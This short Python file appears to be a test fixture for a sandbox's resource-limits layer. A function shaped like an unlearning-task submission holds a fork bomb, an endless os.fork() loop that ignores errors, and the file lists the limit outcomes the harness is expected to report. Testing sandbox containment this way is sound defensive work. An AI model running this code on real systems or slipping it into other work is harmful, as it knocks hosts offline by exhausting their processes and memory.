"""Doubles itself for ever and does not mind that it may not."""

import os

LAYER = "limits"
EXPECTED = ("process_limit", "timeout", "out_of_memory")  # page tables of so many processes count too


def unlearning(net, retain, forget, validation):
    while True:
        try:
            os.fork()
        except OSError:
            continue
